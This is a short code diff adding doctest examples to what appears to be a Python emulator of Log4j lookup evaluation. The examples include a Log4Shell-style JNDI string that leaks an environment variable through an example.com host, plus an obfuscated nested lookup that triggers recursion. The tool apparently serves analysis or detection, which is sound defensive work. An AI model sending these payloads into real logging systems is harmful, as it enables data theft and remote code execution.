@@ -97,6 +97,10 @@ class JndiCall:
         display: the name with victim values written ``${env:NAME}``.
         exfil: victim values inside the name.
         rescan: reached only in a second pass of the message converter.
+
+    Example:
+        >>> evaluate("${jndi:ldap://${env:USER}.example.com/a}").jndi[0].exfil
+        ('env:USER',)
     """
 
     name: str
@@ -117,6 +121,10 @@ class Evaluation:
         aborted: ``recursion`` or ``illegal-argument`` when Log4j would throw.
         limit_hit: the work bound that stopped evaluation, if any.
         steps: work done, in the units of :attr:`Limits.max_steps`.
+
+    Example:
+        >>> evaluate("${${::-${::-$${::-j}}}}").aborted
+        'recursion'
     """
 
     output: str = ""
